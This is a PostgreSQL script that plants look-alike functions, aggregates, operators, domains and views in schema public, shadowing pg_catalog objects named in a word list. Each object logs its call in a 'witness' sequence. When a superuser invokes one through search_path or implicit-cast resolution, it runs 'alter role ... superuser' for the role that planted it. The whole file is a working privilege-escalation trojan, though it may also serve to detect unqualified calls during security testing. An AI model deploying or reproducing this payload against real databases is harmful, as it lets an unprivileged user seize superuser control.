-- Plants in schema public whatever a statement could call by mistake: for each function, aggregate,
-- operator, type and relation of pg_catalog whose name is among the words of :words, objects of the
-- same name that fit what pg_catalog needs an implicit cast for. Each of them notes its number in
-- the sequence "witness" and, when a superuser calls it, makes :role a superuser.
set client_min_messages = error;
set search_path = pg_catalog;
select set_config('my.words', :'words', false), set_config('my.role', :'role', false) \g /dev/null
create table public.planted (number serial, object text);
create sequence public.witness minvalue 0;
grant all on sequence public.witness to public;

create function public.hostile_act(number int) returns void language plpgsql
set search_path = pg_catalog as $$
begin
	perform pg_catalog.setval('public.witness'::pg_catalog.regclass, number);
	if current_setting('is_superuser') = 'on' then
		execute (select format('alter role %I superuser', relowner::pg_catalog.regrole)
			from pg_class where oid = 'public.planted'::pg_catalog.regclass);
	end if;
end $$;

-- A type in whose place PostgreSQL would accept a value of another, by an implicit cast.
create function public.hostile_instead(type oid) returns setof oid language sql as $$
	select case when $1 in ('"any"'::regtype, 'anyelement'::regtype, 'anynonarray'::regtype)
		then 'text'::regtype else $1 end
	union all
	select unnest(case
		when $1 in ('text'::regtype, '"any"'::regtype, 'anyelement'::regtype, 'anynonarray'::regtype)
			then array['name', '"char"', 'varchar']::regtype[]
		when $1 = 'oid'::regtype then array['regclass', 'int4', 'int8', 'xid']::regtype[]
		when $1 = 'int8'::regtype then array['int4', 'oid', 'int2']::regtype[]
		when $1 = 'int4'::regtype then array['int2', 'oid']::regtype[]
		when $1 = 'anyarray'::regtype
			then array['text[]', 'name[]', 'oid[]', 'aclitem[]', '"char"[]']::regtype[]
		else '{}' end::oid[])
$$;

create function public.hostile_plant(object text) returns void language plpgsql as $$
begin
	execute object;
exception when others then
	-- Not everything can be made: the name of a type that is a keyword, or the same twice.
	null;
end $$;

create function public.hostile_body(kind text) returns text language sql as $$
	insert into public.planted (object) values ($1)
	returning format('''select public.hostile_act(%s); select null::%%s''', number)
$$;

do $$
declare
	words text[] := string_to_array(current_setting('my.words'), ' ');
	f record;
	o record;
	body text;
begin
	-- Functions and aggregates.
	for f in
		select distinct p.proname, p.prokind, a.args,
			case when t.typtype = 'p' and t.typname <> 'void' then 'text'
			else format_type(t.oid, null) end as result
		from pg_proc p
		join pg_type t on t.oid = p.prorettype
		cross join lateral (
			select array[first, second, third] as args
			from public.hostile_instead(p.proargtypes[0]) first
			left join public.hostile_instead(p.proargtypes[1]) second on p.pronargs > 1
			left join public.hostile_instead(p.proargtypes[2]) third on p.pronargs > 2
			union
			select array[first, second, third]
			from unnest('{name,text}'::regtype[]) first,
				unnest('{name,text,null}'::regtype[]) second,
				unnest('{name,text,null}'::regtype[]) third
			where p.provariadic <> 0 and (second is not null or third is null)
		) a
		where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind in ('f', 'a')
		and p.proname = any (words) and p.pronargs between 1 and 3
		and p.proname !~ '^(text|name|varchar|int4|int8|bool|oid|timestamptz)$'
	loop
		select array_to_string(array(select format_type(t, null) from unnest(f.args) t
			where t is not null), ', ') into o;
		body := public.hostile_body(format('%s(%s)', f.proname, o.array_to_string));
		if f.prokind = 'f' then
			perform public.hostile_plant(format('create function public.%I(%s) returns %s
				language sql as %s', f.proname, o.array_to_string, f.result,
				format(body, f.result)));
		else
			perform public.hostile_plant(format('create function public.%I(text, %s)
				returns text language sql as %s', 'hostile_' || f.proname,
				o.array_to_string, format(body, 'text')));
			perform public.hostile_plant(format('create aggregate public.%I(%s) (sfunc = public.%I,
				stype = text, initcond = '''')', f.proname, o.array_to_string,
				'hostile_' || f.proname));
		end if;
	end loop;

	-- Operators: one function for each two types and result.
	for o in
		select format_type(l, null) as l, format_type(r, null) as r, result
		from unnest('{name,text,"\"char\"",oid,int2,int4,int8,bool,regclass,varchar,name[],text[]}'::regtype[]) l,
		unnest('{name,text,"\"char\"",oid,int2,int4,int8,bool,regclass,varchar,name[],text[]}'::regtype[]) r,
		unnest('{bool,text}'::text[]) result
	loop
		body := public.hostile_body(format('an operator for %s and %s', o.l, o.r));
		execute format('create function public.hostile_%1$s(%2$s, %3$s) returns %1$s language sql as %4$s',
			o.result, o.l, o.r, format(body, o.result));
	end loop;
	for f in
		select distinct p.oprname, h.proname, h.proargtypes
		from pg_operator p, pg_proc h
		where p.oprname = any (words) and h.pronargs = 2 and h.proname =
			case p.oprresult when 'bool'::regtype then 'hostile_bool' else 'hostile_text' end
		and not exists (select from pg_operator x where x.oprname = p.oprname
			and x.oprleft = h.proargtypes[0] and x.oprright = h.proargtypes[1])
	loop
		perform public.hostile_plant(format('create operator public.%s (function = public.%I,
			leftarg = %s, rightarg = %s)', f.oprname, f.proname,
			format_type(f.proargtypes[0], null), format_type(f.proargtypes[1], null)));
	end loop;

	-- Types and relations.
	for f in
		select typname as name from pg_type
		where typnamespace = 'pg_catalog'::regnamespace and typname = any (words) and typrelid = 0
	loop
		perform public.hostile_plant(format('create domain public.%I as text check (%s)', f.name,
			'public.hostile_bool(value, value)'));
	end loop;
	for f in
		select relname as name from pg_class
		where relnamespace = 'pg_catalog'::regnamespace and relname = any (words) and relkind in ('r', 'v')
	loop
		perform public.hostile_plant(format('create view public.%I as select *,
			public.hostile_bool(null::text, null::text) as hostile from pg_catalog.%1$I', f.name));
	end loop;
end $$;
